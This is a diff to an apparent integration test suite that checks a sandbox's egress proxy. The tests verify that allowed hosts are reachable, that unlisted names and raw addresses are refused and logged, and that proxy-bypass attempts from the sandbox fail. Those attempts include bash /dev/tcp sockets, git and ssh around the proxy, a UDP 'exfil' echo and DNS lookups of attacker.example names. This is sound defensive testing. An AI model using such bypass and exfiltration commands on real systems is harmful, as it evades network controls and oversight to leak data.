@@ -38,7 +38,7 @@ import {
   realNode,
   until,
 } from "./support";
-import { startPublicHost, type PublicHost } from "./public-host";
+import { publicHostAddresses, startPublicHost, type PublicHost } from "./public-host";
 
 const node = realNode();
 const need = fromSetup;
@@ -51,6 +51,7 @@ const USER_IMAGE = need("JR2_NODE_USER_IMAGE");
 /** The stand-in public host's names (dev/cluster/node.sh, test/node/public-host.ts). */
 const ALLOWED = "allowed.egress.example";
 const OTHER = "other.egress.example";
+const PUBLIC = publicHostAddresses();
 
 const MODULE = `pepr-${cfg.pepr.uuid}`;
 const PEPR_NS = "pepr-system";
@@ -402,19 +403,19 @@ describe("the manifests npm run build writes, deployed with the images npm run i
     test("the Harness reaches an allowed host through its proxy; an unlisted name and a raw address are refused", () => {
       expect(connectThrough(mine, `${ALLOWED}:80`)).toMatch(/^200 HTTP\/1\.1 200/);
       expect(connectThrough(mine, `${OTHER}:80`)).toBe("403");
-      expect(connectThrough(mine, "203.0.113.10:80")).toBe("403");
+      expect(connectThrough(mine, `${PUBLIC.allowedIp}:80`)).toBe("403");
       // A port the base list does not name, on the allowed name.
       expect(connectThrough(mine, `${ALLOWED}:8080`)).toBe("403");
     });
 
     test("from the Harness, a tool that goes around the proxy reaches nothing: bash, git, ssh, UDP, DNS", async () => {
       const sh = (command: string) => exec(mine, "harness", "timeout", "5", "bash", "-c", command);
-      expect(dropped(sh("exec 3<>/dev/tcp/203.0.113.10/80"))).toBe(true);
-      expect(sh(`git -c http.proxy= ls-remote http://203.0.113.10/around.git`).status).not.toBe(0);
+      expect(dropped(sh(`exec 3<>/dev/tcp/${PUBLIC.allowedIp}/80`))).toBe(true);
+      expect(sh(`git -c http.proxy= ls-remote http://${PUBLIC.allowedIp}/around.git`).status).not.toBe(0);
       expect(
-        sh("ssh -o BatchMode=yes -o ConnectTimeout=3 -o StrictHostKeyChecking=no git@203.0.113.10 true").status,
+        sh(`ssh -o BatchMode=yes -o ConnectTimeout=3 -o StrictHostKeyChecking=no git@${PUBLIC.allowedIp} true`).status,
       ).not.toBe(0);
-      sh("echo exfil-udp-harness > /dev/udp/203.0.113.11/7");
+      sh(`echo exfil-udp-harness > /dev/udp/${PUBLIC.otherIp}/7`);
       expect(sh("getent hosts exfil-dns-harness.attacker.example").status).not.toBe(0);
       // Nothing of any of them arrived outside: the stand-in's recorders saw none of it.
       await barrier(mine, "harness");
@@ -444,8 +445,8 @@ describe("the manifests npm run build writes, deployed with the images npm run i
           const get = (url: string) => exec(mine, seat, "/jr2-probe", "get", url);
           expect([seat, get(`http://${ALLOWED}/from-${seat}`).status]).toEqual([seat, 0]);
           expect([seat, get(`http://${OTHER}/from-${seat}`).status]).toEqual([seat, 1]);
-          expect([seat, get("http://203.0.113.10/raw").status]).toEqual([seat, 1]);
-          expect([seat, exec(mine, seat, "/jr2-probe", "connect", "203.0.113.10:80").status]).toEqual([seat, 1]);
+          expect([seat, get(`http://${PUBLIC.allowedIp}/raw`).status]).toEqual([seat, 1]);
+          expect([seat, exec(mine, seat, "/jr2-probe", "connect", `${PUBLIC.allowedIp}:80`).status]).toEqual([seat, 1]);
           expect([
             seat,
             exec(mine, seat, "/jr2-probe", "resolve", `exfil-dns-${seat}.attacker.example`).status,
@@ -453,7 +454,7 @@ describe("the manifests npm run build writes, deployed with the images npm run i
         }
         // The Custodian itself: no way out but the egress point, no resolver.
         const custodian = (js: string) => exec(mine, "custodian", "node", "-e", js).stdout.trim();
-        expect(custodian(DIAL_JS("203.0.113.10", 80))).toBe("dropped");
+        expect(custodian(DIAL_JS(PUBLIC.allowedIp, 80))).toBe("dropped");
         expect(custodian(LOOKUP_JS("exfil-dns-custodian.attacker.example"))).not.toBe("resolved");
       } finally {
         connectGuard.restore();
@@ -494,9 +495,9 @@ describe("the manifests npm run build writes, deployed with the images npm run i
     test("every decision recorded: the workspace's log, the metric, one Warning Event per refused host; no secret", async () => {
       await settled();
       expect(connectThrough(theirs, `${ALLOWED}:80`, "/recorded")).toMatch(/^200 /);
-      for (let i = 0; i < 3; i++) expect(connectThrough(theirs, "203.0.113.10:80")).toBe("403");
+      for (let i = 0; i < 3; i++) expect(connectThrough(theirs, `${PUBLIC.allowedIp}:80`)).toBe("403");
       const { entries } = await client().egressLog(theirs);
-      const refused = entries.filter((e) => e.decision === "refused" && e.host === "203.0.113.10");
+      const refused = entries.filter((e) => e.decision === "refused" && e.host === PUBLIC.allowedIp);
       expect(refused.length).toBeGreaterThanOrEqual(3);
       const allowed = entries.find((e) => e.decision === "allowed" && e.host === ALLOWED);
       expect(allowed).toMatchObject({ port: 80 });
@@ -507,7 +508,7 @@ describe("the manifests npm run build writes, deployed with the images npm run i
         const items = (
           getJson(["events", "-n", SANDBOXES, "--field-selector", `involvedObject.name=${theirs},reason=EgressRefused`])
             .items as Obj[]
-        ).filter((e) => e.message.includes("203.0.113.10"));
+        ).filter((e) => e.message.includes(PUBLIC.allowedIp));
         return items.length ? items : undefined;
       });
       expect(events.map((e: Obj) => [e.type, e.count ?? 1, e.involvedObject.kind])).toEqual([
